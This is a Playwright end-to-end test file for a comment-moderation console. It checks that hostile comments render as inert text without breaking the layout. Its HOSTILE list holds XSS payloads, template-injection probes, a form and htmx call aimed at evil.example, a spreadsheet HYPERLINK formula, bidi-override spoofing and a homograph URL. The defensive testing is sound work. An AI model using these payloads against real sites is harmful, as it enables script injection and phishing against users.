"""Comments that attack whoever reads them: nothing runs, nothing is loaded, the layout holds."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.e2e.console.conftest import Desk
from tests.e2e.console.test_screens import fits

HOSTILE = [
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '"><svg/onload=alert(3)><math><mtext></mtext><mglyph><style><img src=x onerror=alert(4)>',
    "[click](javascript:alert(5)) javascript:alert(6) data:text/html,<script>alert(7)</script>",
    "<a href=\"javascript:alert(8)\" style='position:fixed;inset:0'>all of it</a>",
    "</div></article></main><form action=https://evil.example><button>Approve</button>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(9)')()}}",
    '<b hx-get="https://evil.example/" hx-trigger="load">x</b> <meta http-equiv=refresh content=0>',
    "Pay \u202egnp.exe\u202c at \u2066here\u2069 and \u200bnow\ufeff",
    "Z" + "\u0334\u0335\u0336\u0337\u0338" * 400 + "algo " + "e" + "\u0301" * 3000,
    "\x1b[31mred\x1b[0m \x00nul \x07bell \x85 =HYPERLINK(\"https://evil.example\")",
    "W" * 65_000,
    "\n" * 3000 + "below",
    "https://" + "a" * 3000 + ".example/" + "b" * 5000,
    "https://xn--pypal-4ve.example/ https://user@evil.example:99/?x=<script>",
]  # fmt: skip


@pytest.mark.parametrize("width", [1280, 360])
def test_no_comment_does_more_than_be_read(desk: Desk, width: int) -> None:
    ids: list[str] = []
    for text in HOSTILE:
        author = {"name": text[:256], "email": text[:300], "url": text[:2000], "ip": text[:60]}
        ids += desk.hold(text, author=author, permalink=text[:2000], context=[text[:9000]])
    page = desk.person(viewport={"width": width, "height": 800})
    for path in ("review", "queue"):
        page.goto(f"{desk.url}/console/{path}")
        assert fits(page), path
    for comment_id in ids:
        page.goto(f"{desk.url}/console/review?id={comment_id}&site={desk.site}")
        text = page.locator("article.item .text")
        expect(text).to_be_visible()
        assert page.locator("article.item .text :is(a, img, script, svg, form, style)").count() == 0
        assert fits(page), comment_id
        # Whatever the text, the answer stands where the eye expects it and can be pressed.
        page.get_by_role("button", name="Approve", exact=True).click(trial=True)
        if width < 400:  # Where it is tightest.
            page.goto(f"{desk.url}/console/comments/{desk.site}/{comment_id}")
            assert fits(page), comment_id
    page.goto(f"{desk.url}/console/review?id={ids[7]}&site={desk.site}")
    expect(page.locator("article.item .text")).to_contain_text("U+202E")


def test_a_comment_is_shown_as_it_was_written(desk: Desk) -> None:
    text = "First <b>line</b> & more\n\n  indented, see https://one.example/a?b=c&d=e#f."
    (comment_id,) = desk.hold(text)
    page = desk.person()
    page.goto(f"{desk.url}/console/comments/{desk.site}/{comment_id}")
    shown = page.evaluate(
        """() => { const copy = document.querySelector(".text").cloneNode(true);
        for (const hidden of copy.querySelectorAll(".unseen-label")) hidden.remove();
        return copy.textContent; }"""
    )
    assert shown == text
